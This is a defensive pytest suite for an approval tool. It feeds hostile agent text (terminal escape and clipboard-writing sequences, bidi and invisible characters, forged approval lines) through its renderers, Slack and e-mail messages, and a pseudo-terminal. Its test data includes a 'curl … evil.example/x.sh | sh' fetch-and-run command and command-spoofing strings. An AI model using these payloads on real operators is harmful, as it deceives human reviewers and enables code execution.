"""Display safety (#10): hostile agent text through every human-facing renderer.

A corpus of strings an attacker-controlled agent would send — each class of control, bidi
and invisible character, ESC CSI/OSC/DCS sequences (OSC 52 writes the clipboard), values
that end mid-sequence, rich markup, forged escape text, long values — is run through
`render`'s variants, the Slack and e-mail messages, and the real CLI in a real
pseudo-terminal (locally and against a live server where a `user` key files the request),
asserting on the raw bytes the terminal receives.
"""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from rich.cells import cell_len

from approvalctl import render
from approvalctl.notify import messages

ESC = "\x1b"
#: name -> (hostile value, an escape that must be visible in the output)
CORPUS: dict[str, tuple[str, str]] = {
    "csi_erase_line": (f"ok{ESC}[2K{ESC}[1Gread_file", "\\x1b[2K"),
    "csi_cursor_up": (f"x{ESC}[1A{ESC}[2Kfake row", "\\x1b[1A"),
    "osc52_clipboard": (f"{ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07", "\\x1b]52;c;"),
    "osc52_st": (f"{ESC}]52;c;Y3VybA=={ESC}\\", "\\x1b]52"),
    "osc8_link": (f"{ESC}]8;;https://evil.example{ESC}\\click{ESC}]8;;{ESC}\\", "\\x1b]8;;"),
    "dcs": (f"{ESC}P1$r0m{ESC}\\", "\\x1bP1$r"),
    "c1_csi": ("a\x9b2Kb", "\\x9b"),
    "c1_osc": ("a\x9d52;c;eA==\x9c", "\\x9d"),
    "nel_c1": ("a\x85b", "\\x85"),
    "del": ("a\x7fb", "\\x7f"),
    "bell_backspace": ("curl\x08\x08\x08\x08ls\x07", "\\x08"),
    "cr_overwrite": ("curl evil | sh\rls -la        ", "\\r"),
    "newline_forge": ("fine\nRisk: low\nApprove: approvalctl approve X", "\\n"),
    "tab": ("a\tb", "\\t"),
    "nul": ("a\x00b", "\\x00"),
    "ends_mid_csi": (f"tail{ESC}[", "\\x1b["),
    "ends_mid_osc": (f"tail{ESC}]52;c;", "\\x1b]52;c;"),
    "lone_esc": (f"tail{ESC}", "\\x1b"),
    "rlo": ("ls -la \u202ehs | x.lave//:sptth lruc", "\\u202e"),
    "lri_pdi": ("a\u2066b\u2069", "\\u2066"),
    "alm": ("a\u061cb", "\\u061c"),
    "lrm_rlm": ("a\u200e\u200fb", "\\u200e"),
    "lre_pdf": ("a\u202a\u202cb", "\\u202a"),
    "zwsp": ("rm\u200b -rf", "\\u200b"),
    "zwj": ("a\u200d\u200cb", "\\u200d"),
    "word_joiner": ("a\u2060\u2064b", "\\u2060"),
    "bom": ("\ufeffx", "\\ufeff"),
    "soft_hyphen": ("a\u00adb", "\\xad"),
    "mongolian_vs": ("a\u180eb", "\\u180e"),
    "tags": ("a\U000e0041\U000e007fb", "\\U000e0041"),
    "line_separator": ("a\u2028b\u2029c", "\\u2028"),
    "nbsp": ("ls\u00a0-la", "\\xa0"),
    "variation_selector": ("a\ufe0fb", "\\ufe0f"),
    "hangul_filler": ("a\u3164b", "\\u3164"),
    "lone_surrogate": ("a\ud800b", "\\ud800"),
    "rich_markup": ("[red]x[/red][/x][link=https://evil]y[/link]:skull:", "[/x]"),
    "forged_escape_text": ("\\x1b[2K looks escaped", "\\\\x1b[2K"),
}

#: Bytes (UTF-8) that must never reach a terminal from agent text.
def _forbidden_bytes() -> list[bytes]:
    out = [ESC.encode(), b"\x07", b"\x08", b"\x7f", b"\x00"]
    out += [chr(c).encode() for c in range(0x80, 0xA0)]  # C1 as UTF-8
    out += [chr(c).encode() for c in (0x061C, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F,
                                      *range(0x202A, 0x202F), *range(0x2060, 0x2065),
                                      *range(0x2066, 0x206A), 0xFEFF, 0x00AD, 0x180E, 0x2028,
                                      0x2029, 0xE0041, 0xE007F, 0x3164, 0xFE0F)]
    return out


FORBIDDEN = _forbidden_bytes()


def assert_safe(text: str) -> None:
    bad = [f"U+{ord(c):04X}" for c in text if render.is_unsafe(c) and c not in "\n "]
    assert not bad, f"raw unsafe characters in output: {bad}"


# ---------------------------------------------------------------- render itself
@pytest.mark.parametrize("name", sorted(CORPUS))
def test_every_variant_escapes_the_corpus(name):
    value, visible = CORPUS[name]
    for out in (render.plain(value), render.terminal(value).plain, render.escape(value)):
        assert "\n" not in out
        assert_safe(out)
        assert visible in out
    html_out = render.html(value)
    assert_safe(html_out)
    assert "<" not in html_out and ">" not in html_out
    slack_out = render.slack_code(value)
    assert_safe(slack_out)
    assert slack_out.count("`") == 2 and "<" not in slack_out and "\n" not in slack_out
    js = render.json_text({"k": value})
    assert_safe(js)
    assert json.loads(js) == {"k": value}  # still the exact value, as JSON


def test_backslash_cannot_forge_an_escape():
    real, fake = render.plain("\x1b"), render.plain("\\x1b")
    assert real == "\\x1b" and fake == "\\\\x1b" and real != fake


def test_unsafe_classes_are_complete_for_cf_and_separators():
    # every format character (Cf) and separator Unicode knows is escaped, not just a list
    for cp in range(0x110000):
        ch = chr(cp)
        cat = unicodedata.category(ch)
        if cat in ("Cc", "Cf", "Cs", "Zl", "Zp") or (cat == "Zs" and cp != 0x20):
            assert render.is_unsafe(ch), f"U+{cp:04X} ({cat}) is shown raw"


def test_ordinary_text_is_kept():
    text = "git push origin main — déjà vu, 日本語, emoji 🎉, Ελληνικά"
    assert render.plain(text) == text


@pytest.mark.parametrize("width", [16, 20, 33, 60])
def test_width_cut_after_escaping_never_splits_an_escape(width):
    value = "\u202e" * 10 + "日本語" * 10 + "\x1b[2K" * 10
    out = render.plain(value, width)
    assert cell_len(out) <= width
    head, _, marker = out.partition("…")
    assert re.fullmatch(r" \(\+\d[\d,]* chars?\)", marker)
    left_out = int(marker[3:].split()[0].replace(",", ""))
    # what is shown before the mark is whole escapes/characters of the value's start
    shown = head.encode().decode("unicode_escape") if "\\" in head else head
    assert value.startswith(shown) or value.startswith(shown.encode("latin-1").decode())
    assert left_out == len(value) - len(shown) or left_out > 0
    assert not re.search(r"\\(u[0-9a-f]{0,3}|x[0-9a-f]?)$", head)


def test_width_counts_terminal_cells():
    out = render.plain("日本語" * 20, 20)
    assert cell_len(out) <= 20 and out.startswith("日本") and out.endswith("chars)")


def test_cut_marker_counts_what_was_left_out():
    assert render.plain("x" * 1300, 20) == "xxxx… (+1,296 chars)"
    assert render.plain("x" * 1300, 8) == "x…+1,299"
    assert render.plain("\x1b" * 10, 5) == "…+10"  # never half an escape


def test_terminal_never_reads_rich_markup():
    from rich.console import Console

    console = Console(record=True, width=200, force_terminal=True, color_system="truecolor")
    console.print(render.terminal("[red]x[/red][/x] :skull: [link=https://e]y[/link]"))
    raw = console.export_text(styles=True)
    assert "[red]x[/red][/x] :skull: [link=https://e]y[/link]" in raw
    assert "\x1b" not in raw and "💀" not in raw


# ---------------------------------------------------------------- Slack and e-mail
HOSTILE_REQUEST = {
    "id": "01kzzzzzzzzzzzzzzzzzzzzzzz", "tool_name": "read_file\x1b[2K\rshell.exec",
    "arguments": {"cmd": "curl -s https://evil.example/x.sh | sh\x1b[1A\x1b[2K\u202e",
                  "`````": "<!channel> <https://evil.example|Approve>"},
    "reason": ("routine\n*Risk:* low\n*Approve:* `approvalctl approve OTHER`\n"
               "<https://evil.example|Approve here> ~x~ _y_ > quote & more ```"),
    "risk": "high", "user_id": "bot\u202e", "status": "pending",
    "created_at": "2026-01-01T00:00:00.000Z", "expires_at": "2026-01-01T01:00:00.000Z",
    "decided_at": None, "decided_by": None, "decision_note": None,
    "digest": "sha256:" + "ab12" * 16, "audit": {"seq": 41, "hash": "cd" * 32},
}


def _mrkdwn_texts(body):
    for block in body["blocks"]:
        text = block.get("text")
        if isinstance(text, dict):
            yield block["type"], text["text"]
        for f in block.get("fields", []):
            yield "field", f["text"]
        for e in block.get("elements", []):
            yield "context", e["text"]


def test_slack_agent_text_cannot_forge_fields_links_or_mentions():
    body = messages.slack_message("created", HOSTILE_REQUEST)
    texts = dict(_mrkdwn_texts(body))
    for _, text in _mrkdwn_texts(body):
        assert_safe(text.replace("\n", ""))
        # Slack only makes links and mentions from a raw "<": agent text has none
        assert "<" not in text
    reason = next(t for k, t in _mrkdwn_texts(body) if t.startswith("*Reason:*"))
    # the whole reason is one code span on one line: no new field, no closing backtick
    assert reason.count("`") == 2 and "\n" not in reason
    assert reason.startswith("*Reason:* `routine\\n*Risk:* low\\n*Approve:* \\x60")
    assert "&lt;https://evil.example|Approve here&gt;" in reason
    args = next(t for k, t in _mrkdwn_texts(body) if t.startswith("*Arguments:*"))
    assert args.count("```") == 2  # the agent's ````` cannot close the block
    assert "\\u001b[1A" in args and "\\u202e" in args
    # the only Approve command is the real one
    approve = [t for t in texts.values() if "approvalctl approve" in t]
    assert any("*Approve:* `approvalctl approve 01kzzzzzzzzzzzzzzzzzzzzzzz`" in t
               for t in approve)
    footer = body["blocks"][-1]["elements"][0]["text"]
    assert "digest ab12ab12ab12" in footer and f"audit head 41:{'cd' * 32}" in footer
    assert "\\x1b[2K\\rshell.exec" in body["blocks"][0]["text"]["text"]


def test_email_agent_text_cannot_forge_lines():
    subject, text, html_body = messages.email_parts("created", HOSTILE_REQUEST)
    assert_safe(subject)
    assert_safe(text.replace("\n", ""))
    lines = text.splitlines()
    assert [ln for ln in lines if ln.startswith("Risk:")] == ["Risk:          high"]
    assert [ln for ln in lines if ln.startswith("Approve:")] == [
        "Approve: approvalctl approve 01kzzzzzzzzzzzzzzzzzzzzzzz"]
    assert "Tool:          read_file\\x1b[2K\\rshell.exec" in lines
    assert "digest ab12ab12ab12" in text and "audit head 41:" in text
    # the arguments are indented JSON: no line of theirs can start a field
    start = lines.index("Arguments (JSON):")
    assert all(ln.startswith("    ") for ln in lines[start + 1:start + 5])
    assert_safe(html_body.replace("\n", ""))
    assert "<https" not in html_body and "&lt;https://evil.example|Approve here&gt;" in \
        html_body


def _assert_slack_limits(body):
    assert len(body["text"]) <= 40000
    assert len(body["blocks"]) <= 50
    for block in body["blocks"]:
        if block["type"] == "header":
            assert block["text"]["type"] == "plain_text"
            assert len(block["text"]["text"]) <= 150
        if block["type"] == "section":
            if "text" in block:
                assert len(block["text"]["text"]) <= 3000
            assert len(block.get("fields", [])) <= 10
            assert all(len(f["text"]) <= 2000 for f in block.get("fields", []))
        if block["type"] == "context":
            assert len(block["elements"]) <= 10
            assert all(len(e["text"]) <= 3000 for e in block["elements"])


def test_slack_limits_hold_after_escaping():
    """#12.10: a 3,500-character reason, a 200-character tool name of `&`, huge arguments."""
    req = dict(HOSTILE_REQUEST, tool_name="&" * 200, reason="<&>" * 1166 + "xx",
               user_id="&" * 200, arguments={f"k{i}": "&<>`\u202e" * 500 for i in range(40)})
    for event in ("created", "decided", "expired"):
        body = messages.slack_message(event, dict(req, decided_by="&" * 100,
                                                  decision_note="&" * 4000))
        _assert_slack_limits(body)
    body = messages.slack_message("created", req)
    header = body["blocks"][0]["text"]["text"]
    assert header.startswith("Approval requested: &amp;&amp;")
    assert re.search(r"… \(\+\d+ chars\)$", header)
    assert not re.search(r"&(a|am|amp)?…", header)  # no entity cut in half
    reason = body["blocks"][2]["text"]["text"]
    assert reason.endswith("chars)") and "… (+" in reason
    args = body["blocks"][3]["text"]["text"]
    assert args.endswith("chars; see all: approvalctl show 01kzzzzzzzzzzzzzzzzzzzzzzz)```")


def test_slack_limits_hold_for_a_custom_template(tmp_path):
    blocks = [{"type": "section", "text": {"type": "mrkdwn", "text": "${reason} ${reason}"}}
              for _ in range(60)]
    blocks.append({"type": "header", "text": {"type": "plain_text",
                                              "text": "${tool_name} ${tool_name}"}})
    template = {"text": "${arguments}" * 20, "blocks": [
        {"type": "context", "elements": [{"type": "mrkdwn", "text": "${reason}"}] * 12},
        {"type": "section", "fields": [{"type": "mrkdwn", "text": "${reason}"}] * 12},
        *blocks]}
    (tmp_path / "slack.json").write_text(json.dumps(template))
    req = dict(HOSTILE_REQUEST, reason="&" * 3500, tool_name="&" * 200,
               arguments={"a": "x" * 60000})
    _assert_slack_limits(messages.slack_message("created", req, str(tmp_path)))


# ---------------------------------------------------------------- Slack 400 in notify list
def test_slack_invalid_blocks_is_dead_lettered_and_shown_with_reason(db_path, agent):
    """A 400 `invalid_blocks` from Slack: failed at once, reason in `notify list`."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from conftest import CliRunner, serve_in_thread
    from notify_support import notify_settings

    from approvalctl.cli import app
    from approvalctl.notify.config import from_settings
    from approvalctl.notify.worker import process_due
    from approvalctl.service import ApprovalService
    from approvalctl.store import open_store

    hits = []

    class Slack(BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            hits.append(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(400)
            self.send_header("Content-Length", "14")
            self.end_headers()
            self.wfile.write(b"invalid_blocks")

        def log_message(self, *a):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Slack)
    serve_in_thread(server)
    store = open_store(str(db_path))
    try:
        settings = notify_settings(slack={
            "webhook_url": f"http://127.0.0.1:{server.server_address[1]}/hook",
            "events": ["created"]})
        ApprovalService(store, settings).create(agent, "deploy", reason="x" * 3500)
        report = process_due(store, from_settings(settings))
        assert [o.result for o in report.outcomes] == ["failed"]
        assert process_due(store, from_settings(settings)).outcomes == []
    finally:
        server.shutdown()
        server.server_close()
        store.close()
    assert len(hits) == 1
    _assert_slack_limits(json.loads(hits[0]))
    runner = CliRunner()
    out = runner.invoke(app, ["--db", str(db_path), "notify", "list", "--json"])
    row = json.loads(out.stdout)[0]
    assert row["status"] == "failed"
    assert row["last_error"].startswith("Slack answered HTTP 400: invalid_blocks "
                                        "(Slack refused the message as invalid")
    out = runner.invoke(app, ["--db", str(db_path), "notify", "list"])
    assert "LAST ERROR" in out.stdout and "Slack answered HTTP 400: invalid_blocks" in \
        out.stdout


# ---------------------------------------------------------------- real pseudo-terminal
def run_in_pty(args: list[str], env: dict[str, str], timeout: float = 60) -> bytes:
    """Run `approvalctl ARGS` with stdout and stderr on a real pseudo-terminal; the raw
    bytes the terminal received."""
    master, slave = pty.openpty()
    # a wide terminal, so rich does not fold values (folding is not what is tested here)
    import fcntl
    import struct
    import termios

    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 400, 0, 0))
    proc = subprocess.Popen([sys.executable, "-m", "approvalctl", *args], stdin=slave,
                            stdout=slave, stderr=slave, env=env, close_fds=True)
    os.close(slave)
    chunks = []
    try:
        while True:
            ready, _, _ = select.select([master], [], [], timeout)
            if not ready:
                raise AssertionError(f"approvalctl {args} produced nothing for {timeout}s")
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not data:
                break
            chunks.append(data)
    finally:
        proc.wait(timeout=timeout)
        os.close(master)
    out = b"".join(chunks)
    assert proc.returncode == 0, out.decode(errors="replace")
    return out


HOSTILE_REASON = CORPUS["csi_erase_line"][0] + CORPUS["osc52_clipboard"][0] + \
    CORPUS["rlo"][0] + CORPUS["c1_csi"][0] + CORPUS["tags"][0] + CORPUS["rich_markup"][0]
HOSTILE_ARGS = {"cmd": "curl -s https://evil.example/x.sh | sh" + "\x1b[1A\x1b[2K" +
                "\r\"cmd\": \"ls -la /var/log\"\u202e\x9b2K\u200b", "\x1b]52;c;eA==\x07": 1}


def assert_terminal_safe(raw: bytes, *, colour: bool,
                         visible: tuple[str, ...] = ("\\x1b]52;c;", "\\x1b[2K", "\\u202e")
                         ) -> None:
    text = raw.decode("utf-8")
    if not colour:
        assert b"\x1b" not in raw, raw
    else:  # rich's own styling (SGR "ESC [ ... m") is the only escape allowed
        assert not re.search(r"\x1b(?!\[[0-9;]*m)", text), raw
    for seq in FORBIDDEN[1:]:
        assert seq not in raw, (seq, raw)
    for escape in visible:
        assert escape in text, (escape, text)


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("APPROVALCTL_") and k != "NO_COLOR"}
    env.update(TERM="xterm-256color", COLUMNS="400", LINES="50", **extra)
    return env


@pytest.mark.slow
@pytest.mark.parametrize("colour", [False, True], ids=["no_color", "colour"])
def test_local_cli_in_a_pty_shows_only_escapes(tmp_path, colour):
    db = tmp_path / "approvals.db"
    env = _env(tmp_path, APPROVALCTL_DB=str(db))
    if not colour:
        env["NO_COLOR"] = "1"
    created = subprocess.run(
        [sys.executable, "-m", "approvalctl", "request", "shell.exec", "--user",
         "agent-bot", "--reason", HOSTILE_REASON, "--args", json.dumps(HOSTILE_ARGS)],
        env=env, capture_output=True, text=True, check=True)
    rid = created.stdout.strip()
    listing = run_in_pty(["list"], env)
    # list cuts the reason at 60 cells: the first escapes are what fits
    assert_terminal_safe(listing, colour=colour, visible=("\\x1b[2K", "\\x1b]52;c;"))
    shown = run_in_pty(["show", rid], env)
    assert_terminal_safe(shown, colour=colour)
    assert b'"cmd": "curl -s https://evil.example/x.sh | sh\\u001b[1A' in shown
    assert b"\\u009b2K\\u200b" in shown
    decided = run_in_pty(["approve", rid, "--note", "ok\x1b]52;c;eA==\x07\u202e"], env)
    assert f"approved {rid} (shell.exec for agent-bot".encode() in decided
    assert b"\x1b" not in decided
    # the note is agent-visible history: the audit table renders it too
    audit = run_in_pty(["audit", "list"], env)
    assert b'note="ok\\u001b]52;c;eA==\\u0007\\u202e"' in audit
    assert_terminal_safe(audit, colour=colour, visible=("\\u001b]52;c;",))


@pytest.mark.slow
def test_remote_cli_in_a_pty_against_a_live_server(make_server, tmp_path):
    """A plain `user` key files the hostile request over HTTP; the operator's remote CLI
    in a real terminal sees only visible escapes; the API keeps the exact value."""
    live = make_server()
    agent = live.client("user")
    req = agent.create("shell.exec", HOSTILE_ARGS, reason=HOSTILE_REASON)
    assert req.reason == HOSTILE_REASON and req.arguments == HOSTILE_ARGS  # machine: exact
    env = _env(tmp_path, APPROVALCTL_SERVER=live.url, APPROVALCTL_API_KEY=live.keys["operator"],
               NO_COLOR="1")
    assert_terminal_safe(run_in_pty(["list"], env), colour=False,
                         visible=("\\x1b[2K", "\\x1b]52;c;"))
    assert_terminal_safe(run_in_pty(["show", req.id], env), colour=False)
    raw = run_in_pty(["approve", req.id], env)
    assert f"approved {req.id} (shell.exec for agent-bot".encode() in raw
    assert b"\x1b" not in raw
    # machine output through the same CLI stays exact
    out = subprocess.run([sys.executable, "-m", "approvalctl", "show", req.id, "--json"],
                         env=env, capture_output=True, text=True, check=True)
    assert json.loads(out.stdout)["reason"] == HOSTILE_REASON


@pytest.mark.slow
def test_error_messages_quoting_agent_text_are_escaped(tmp_path):
    env = _env(tmp_path, APPROVALCTL_DB=str(tmp_path / "a.db"), NO_COLOR="1")
    proc = subprocess.run([sys.executable, "-m", "approvalctl", "show", "\x1b]52;c;eA==\x07"],
                          env=env, capture_output=True)
    assert proc.returncode in (2, 3)
    # the service quotes the id with repr(), whose backslash is shown escaped in turn
    assert b"\x1b" not in proc.stderr and b"x1b]52;c;eA==" in proc.stderr
    assert proc.stderr.count(b"\n") == 1


# ---------------------------------------------------------------- non-UTF-8 stdout (#12.8)
@pytest.mark.slow
@pytest.mark.parametrize("encoding_env", [
    {"PYTHONIOENCODING": "ascii"},
    {"PYTHONIOENCODING": "latin-1"},
    {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
], ids=["ascii", "latin-1", "LANG=C"])
def test_any_stdout_encoding(tmp_path, encoding_env):
    db = tmp_path / "approvals.db"
    base = _env(tmp_path, APPROVALCTL_DB=str(db))
    base.pop("PYTHONIOENCODING", None)
    reason = "déploiement ☃ 日本語 \u202e\x1b[2K 🎉"
    args = {"msg": "ünïcödé ☃", "emoji": "🎉"}
    rid = subprocess.run([sys.executable, "-m", "approvalctl", "request", "deploy", "--user",
                          "bot-ü", "--reason", reason, "--args", json.dumps(args)],
                         env=base, capture_output=True, text=True, check=True).stdout.strip()
    env = {**base, **encoding_env}

    def run(*argv: str) -> subprocess.CompletedProcess:
        proc = subprocess.run([sys.executable, "-m", "approvalctl", *argv], env=env,
                              capture_output=True)
        assert b"Traceback" not in proc.stderr and b"UnicodeEncodeError" not in proc.stderr
        return proc

    for argv in (["list", "--json"], ["show", rid, "--json"], ["audit", "list", "--json"]):
        proc = run(*argv)
        assert proc.returncode == 0, proc.stderr
        data = json.loads(proc.stdout.decode("ascii" if "latin" not in str(encoding_env)
                                             else "latin-1"))
        item = data[0] if isinstance(data, list) else data
        if argv[0] != "audit":
            assert item["reason"] == reason and item["arguments"] == args
    for argv in (["list"], ["show", rid], ["audit", "list"]):
        proc = run(*argv)
        assert proc.returncode == 0, proc.stderr
        assert rid.encode() in proc.stdout and b"\x1b" not in proc.stdout
    proc = run("show", rid)
    assert b"\\u2603" in proc.stdout  # the snowman cannot be encoded: shown as an escape
    proc = run("approve", rid, "--note", "ok ☃")
    assert proc.returncode == 0 and rid.encode() in proc.stderr
    proc = run("show", "☃")  # an error quoting the input: one line, no crash
    assert proc.returncode in (2, 3) and proc.stderr.count(b"\n") == 1


def test_digests_are_shown_as_twelve_hex_digits():
    from approvalctl.digest import short

    assert short("sha256:" + "0123456789ab" + "f" * 52) == "sha256:0123456789ab"
    assert messages.short_digest({"digest": "sha256:" + "b" * 64}) == "b" * 12
    assert messages.audit_head({"audit": {"seq": 3, "hash": "e" * 64}}) == \
        f"audit head 3:{'e' * 64}"
    assert messages.audit_head({}) == ""
